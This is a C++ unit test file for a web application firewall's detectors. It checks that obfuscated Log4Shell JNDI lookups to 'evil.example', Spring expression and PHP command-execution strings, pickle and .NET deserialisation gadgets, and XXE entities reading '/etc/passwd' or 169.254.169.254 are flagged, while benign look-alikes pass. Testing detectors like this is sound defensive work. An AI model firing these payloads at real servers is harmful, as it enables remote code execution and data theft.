// Java, PHP and serialised objects: other spellings of one attack stay attacks, look-alikes pass.
#include <gtest/gtest.h>

#include "tests/detect/analyze/analyze_support.h"
#include "tests/detect/analyze/judged_matchers.h"

namespace wafd::detect {
namespace {

std::string base64(std::string_view text) {
  constexpr std::string_view kDigits = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  std::uint32_t bits = 0;
  unsigned have = 0;
  for (const char c : text) {
    bits = bits << 8 | static_cast<unsigned char>(c);
    for (have += 8; have >= 6;) {
      have -= 6;
      out.push_back(kDigits[bits >> have & 0x3f]);
    }
  }
  if (have > 0) out.push_back(kDigits[bits << (6 - have) & 0x3f]);
  return out;
}

TEST(ServerVariations, ClassNamesInBase64AtEveryAlignment) {
  const Analyzer* const analyzer = &analyzer_named("java");
  for (const char* name :
       {"InvokerTransformer", "invokertransformer", "TemplatesImpl", "ProcessBuilder", "forclosure"}) {
    for (std::size_t before = 0; before < 6; ++before) {
      const std::string text = base64(std::string(before, '\x01') + name + "\x02\x03");
      for (std::size_t cut = 0; cut <= before * 8 / 6; ++cut)
        EXPECT_EQ(verdict_of(*analyzer, text.substr(cut)), "balanced") << name << ' ' << before << ' ' << cut;
    }
  }
  EXPECT_EQ(verdict_of(*analyzer, base64("the runtime of a transformer and its closure")), "-");
}

TEST(ServerVariations, JndiInNestedLookups) {
  const Analyzer* const analyzer = &analyzer_named("java");
  const auto letter = [](Dice& dice, char c) -> std::string {
    switch (dice.roll(6)) {
      case 0:
        return std::string("${lower:") + static_cast<char>(c - 32) + "}";
      case 1:
        return std::string("${::-") + c + "}";
      case 2:
        return std::string("${env:NONE:-") + c + "}";
      case 3:
        return std::string("${date:'") + c + "'}";
      case 4:
        return std::string("${upper:${lower:") + c + "}}";
      default:
        return std::string(1, c);
    }
  };
  Dice dice(5);
  for (int made = 0; made < 500; ++made) {
    std::string text = "${";
    for (const char c : std::string_view("jndi")) text += letter(dice, c);
    text += dice.roll(2) == 0 ? ":ldap://evil.example/a}" : "${::-:}ldap://evil.example/a";
    EXPECT_EQ(verdict_of(*analyzer, text), "low") << text;
  }
}

TEST(ServerVariations, Java) {
  const Analyzer* const analyzer = &analyzer_named("java");
  const std::pair<const char*, const char*> kRows[] = {
      {"java.lang.String", "balanced"},
      {"cnVudGltZQ", "balanced"},
      {"UnVudGltZQ==", "balanced"},
      {"HJ1bnRpbWU", "balanced"},
      {"BydW50aW1l", "balanced"},
      {"eyJydW50aW1lIjoxfQ", "-"},
      {"cnVudGltZSBlcnJvcg==", "-"},
      {"java.lang.Integer", "balanced"},
      {"java.evil.runtime", "balanced"},
      {"java.runtime.version", "strict"},
      {"org.omg.CORBA", "balanced"},
      {"java.util.ArrayList", "strict"},
      {"a java.lang.String of names", "-"},
      {"org.springframework.boot", "strict"},
      {"org.apache.commons.collections.Transformer", "balanced"},
      {"org.apache.commons:commons-lang3:3.12.0", "-"},
      {"java.lang.NullPointerException", "-"},
      {"java.net.example.com", "-"},
      {"T(java.lang.Runtime).getRuntime()", "low"},
      {"T(System).getenv()", "low"},
      {"function T(e.t).x", "-"},
      {"class['classLoader']", "low"},
      {"top['class']['module'].x", "low"},
      {"the class.of.2024", "-"},
      {"@java.lang.Math@random()", "low"},
      {"me@a.example and you@b.example", "-"},
      {"div#container.container > a", "-"},
      {"${A:-x} ${B:-y}", "-"},
      {"${A:-${B:-c}}", "-"},
      {"${price}", "-"},
  };
  for (const auto& [text, verdict] : kRows)
    EXPECT_EQ(verdict_of(*analyzer, text, Location::kQuery, false, "id"), verdict) << text;
}

TEST(ServerVariations, Php) {
  const Analyzer* const analyzer = &analyzer_named("php");
  const std::pair<const char*, const char*> kRows[] = {
      {"<?xml :echo 1;", "balanced"},
      {"<?=1?>", "balanced"},
      {"<?xml version=\"1.0\"?><a/>", "-"},
      {"exec/**/('id')", "balanced"},
      {"exec #c\n('id')", "balanced"},
      {"array_map('system', $a)", "low"},
      {"chr(115).chr(121)", "balanced"},
      {"@$b('x')", "balanced"},
      {"($y)('id')", "balanced"},
      {"$o->$f()", "balanced"},
      {"${'a'}", "balanced"},
      {"$ {$a}", "strict"},
      {"memory_limit = 512M", "balanced"},
      {"engine=true", "strict"},
      {"from=report", "-"},
      {"engine=search", "-"},
      {"substr()", "strict"},
      {"Chrome(114.0.0.0)", "-"},
      {"a:1:{i:0;s:1:\"a\";}", "-"},
      {"phpinfo is a function of PHP", "-"},
      {"Costs $5 (five), or about $six", "-"},
  };
  for (const auto& [text, verdict] : kRows) EXPECT_EQ(verdict_of(*analyzer, text), verdict) << text;
}

TEST(ServerVariations, PhpCallsInAnySpelling) {
  const Analyzer* const analyzer = &analyzer_named("php");
  Dice dice(9);
  constexpr const char* kGaps[] = {"", "/**/", "/* x */", "//x\n", "#x\n"};
  for (const char* name : {"system", "passthru", "shell_exec", "eval", "assert"}) {
    for (int made = 0; made < 100; ++made) {
      std::string text;
      for (const char* c = name; *c != '\0'; ++c)
        text.push_back(dice.roll(2) == 0 && *c != '_' ? static_cast<char>(*c - 32) : *c);
      text += std::string(kGaps[dice.roll(5)]) + "('id')";
      EXPECT_TRUE(denied_at_balanced(verdict_of(*analyzer, text))) << text;
    }
  }
}

TEST(ServerVariations, SerialisedObjects) {
  const auto analyzer = make_deserialization_analyzer();
  const std::pair<std::string, const char*> kRows[] = {
      {"cposix\nsystem\np0\n", "balanced"},
      {std::string("\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93", 29),
       "balanced"},
      {base64(std::string(
           "\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93", 29)),
       "balanced"},
      {"!!javax.script.ScriptEngineManager [x]", "balanced"},
      {"{\"$type\":\"System.Collections.Generic.List`1\"}", "-"},
      {"{\"$type\":\"System.Windows.Data.ObjectDataProvider\"}", "balanced"},
      {"{\"@type\":\"Product\"}", "-"},
      {"Wow!! java.lang is great", "-"},
  };
  for (const auto& [text, verdict] : kRows) EXPECT_EQ(verdict_of(*analyzer, text), verdict) << text;
}

TEST(ServerVariations, Stylesheets) {
  const Analyzer* const analyzer = &analyzer_named("xxe");
  EXPECT_EQ(verdict_of(*analyzer, "<xsl:value-of select=\"document('/etc/passwd')\"/>"), "balanced");
  EXPECT_EQ(verdict_of(*analyzer, "<xsl:template match=\"/\"><b/></xsl:template>"), "-");
}

TEST(ServerVariations, DoctypesAndSchemas) {
  const Analyzer* const analyzer = &analyzer_named("xxe");
  const std::pair<const char*, const char*> kRows[] = {
      // Published document types, as programs write them into their files.
      {"<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" "
       "\"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist/>",
       "strict"},
      {"<!DOCTYPE mapper PUBLIC '-//mybatis.org//DTD Mapper 3.0//EN' "
       "'https://mybatis.org/dtd/mybatis-3-mapper.dtd'>",
       "strict"},
      {"<!DOCTYPE html SYSTEM \"about:legacy-compat\">", "-"},
      // Not published: no formal name, an inner host, declarations of its own.
      {"<!DOCTYPE x PUBLIC \"a\" \"http://e.example/x.dtd\">", "balanced"},
      {"<!DOCTYPE x PUBLIC \"-//a//b\" \"http://169.254.169.254/x.dtd\">", "balanced"},
      {"<!DOCTYPE svg PUBLIC \"-//a//b\" \"http://metadata.internal/x.dtd\">", "balanced"},
      {"<!DOCTYPE html SYSTEM \"http://localhost/www.w3.org\">", "balanced"},
      {"<!DOCTYPE x PUBLIC \"-//W3C//x\" \"file:///etc/passwd\">", "balanced"},
      {"<!DOCTYPE x PUBLIC \"-//a//b\" \"http://e.example/x.dtd\" [<!ELEMENT x ANY>]>", "balanced"},
      // Expansion.
      {"<!ENTITY a \"a\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;\">", "low"},
      {"<!ENTITY a 'x'><!ENTITY b '&a;&a;'><!ENTITY c '&b;&b;'>", "low"},
      {"<!ENTITY a 'x'><!ENTITY b '&a; and &c;'><!ENTITY c 'y &d;'><!ENTITY d 'z &e;'>", "strict"},
      // Schemas.
      {"<xs:import schemaLocation=\"http://169.254.169.254/\"/>", "balanced"},
      {"<xs:include schemaLocation='file:///etc/passwd'/>", "balanced"},
      {"<import namespace='a' schemaLocation = \"http://localhost:8080/x\"/>", "balanced"},
      {"<xs:import namespace=\"a\" schemaLocation=\"http://schemas.example.org/a.xsd\"/>", "strict"},
      {"<xs:include schemaLocation=\"types.xsd\"/>", "-"},
      {"<a xsi:schemaLocation=\"http://a.example/ http://c5ip.evil.example.net/a.xsd\"/>", "balanced"},
      {"<a xsi:schemaLocation='http://a.example/b http://a.example/b.xsd\nhttp://c.example "
       "http://d.test/c.xsd'/>",
       "balanced"},
      {"<a xsi:schemaLocation=\"urn:hl7-org:v3 http://schemas.example.org/cda.xsd\"/>", "strict"},
      {"<a xsi:schemaLocation=\"http://purl.org/dc/terms/ http://dublincore.org/dcterms.xsd\"/>", "strict"},
      {"<a xsi:schemaLocation=\"http://www.opengis.net/kml/2.2 "
       "http://schemas.opengis.net/kml/2.2.0/k.xsd\"/>",
       "strict"},
      {"<a xsi:schemaLocation=\"http://maven.apache.org/POM/4.0.0 http://maven.apache.org/a.xsd\"/>",
       "strict"},
  };
  for (const auto& [text, verdict] : kRows) EXPECT_EQ(verdict_of(*analyzer, text), verdict) << text;
}

}  // namespace
}  // namespace wafd::detect
